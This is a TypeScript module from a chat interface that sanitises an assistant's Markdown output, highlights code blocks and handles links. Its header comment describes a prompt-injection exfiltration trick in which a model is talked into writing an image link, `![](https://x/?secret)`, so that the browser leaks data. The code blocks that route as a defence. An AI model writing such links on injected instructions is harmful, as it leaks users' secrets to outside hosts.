import { signal } from '@preact/signals';
import DOMPurify from 'dompurify';
import { Marked, type Tokens } from 'marked';

/**
 * Markdown as the assistant writes it → HTML that is safe to insert: marked renders, DOMPurify removes
 * anything executable, links open in a new tab without an opener, and code blocks are highlighted with a
 * small set of highlight.js languages (core build, see highlighter.ts) and get a copy button (its clicks
 * are handled by delegation in MarkdownView, since the HTML is inserted as a string).
 *
 * Images from other origins are not loaded: a model could be talked into writing `![](https://x/?secret)`
 * and the browser would send the secret by fetching it (the page's CSP blocks them too). They become
 * plain links instead.
 *
 * highlight.js arrives as a separate chunk shortly after start-up; `highlighterReady` turns true then, and
 * MarkdownView re-renders with colours (same layout: only spans are added).
 */
type Highlighter = typeof import('./highlighter').default;
let hljs: Highlighter | undefined;
export const highlighterReady = signal(false);

import('./highlighter').then(
  (module) => {
    hljs = module.default;
    cache.clear();
    highlighterReady.value = true;
  },
  () => {
    // Offline with a stale cache: code stays uncoloured.
  },
);

const escapeHtml = (text: string) =>
  text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

/** While a reply streams, automatic language detection is skipped (it is the costly part). */
let detect = true;

function highlight(code: string, lang: string): { html: string; language: string } {
  if (!hljs) return { html: escapeHtml(code), language: lang };
  if (lang && hljs.getLanguage(lang)) {
    return { html: hljs.highlight(code, { language: lang, ignoreIllegals: true }).value, language: lang };
  }
  if (!lang && detect && code.length < 20_000) {
    const auto = hljs.highlightAuto(code);
    if (auto.language && auto.relevance >= 5) return { html: auto.value, language: auto.language };
  }
  return { html: escapeHtml(code), language: lang };
}

const marked = new Marked({
  gfm: true,
  breaks: true,
  renderer: {
    code({ text, lang }: Tokens.Code) {
      const name = (lang ?? '').trim().split(/\s+/)[0]?.toLowerCase() ?? '';
      const { html, language } = highlight(text.replace(/\n$/, ''), name);
      const label = language ? escapeHtml(language) : 'text';
      return (
        `<div class="code-block"><div class="code-head"><span>${label}</span>` +
        `<button type="button" class="copy-code" aria-label="Copy code">Copy</button></div>` +
        `<pre><code class="hljs">${html}</code></pre></div>`
      );
    },
  },
});

DOMPurify.addHook('afterSanitizeAttributes', (node) => {
  if (node.tagName === 'A' && node.hasAttribute('href')) {
    node.setAttribute('target', '_blank');
    node.setAttribute('rel', 'noopener noreferrer');
  }
  if (node.tagName === 'IMG') {
    const src = node.getAttribute('src') ?? '';
    let sameOrigin = false;
    try {
      sameOrigin = src.startsWith('data:image/') || new URL(src, location.href).origin === location.origin;
    } catch {
      sameOrigin = false;
    }
    if (!sameOrigin) {
      const link = document.createElement('a');
      link.href = src;
      link.textContent = `[image: ${node.getAttribute('alt') || src}]`;
      link.setAttribute('target', '_blank');
      link.setAttribute('rel', 'noopener noreferrer');
      node.replaceWith(link);
    } else {
      node.setAttribute('loading', 'lazy');
    }
  }
});

const PURIFY = {
  // HTML only: SVG and MathML would bring `<image href>` (a fetch past the img-to-link rule) and markup
  // that can hide the rest of a message.
  USE_PROFILES: { html: true },
  FORBID_TAGS: ['style', 'form', 'iframe', 'object', 'embed', 'video', 'audio', 'source', 'link', 'meta'],
  FORBID_ATTR: ['style', 'srcset', 'action', 'formaction'],
  ADD_ATTR: ['target'],
};

const cache = new Map<string, string>();

/** Sanitised HTML of `source`. Finished messages are cached; a streaming one is rendered each frame. */
export function renderMarkdown(source: string, streaming = false): string {
  const hit = streaming ? undefined : cache.get(source);
  if (hit !== undefined) return hit;
  detect = !streaming;
  const raw = marked.parse(source, { async: false });
  detect = true;
  const html = DOMPurify.sanitize(raw, PURIFY);
  if (!streaming) {
    if (cache.size > 300) cache.delete(cache.keys().next().value as string);
    cache.set(source, html);
  }
  return html;
}
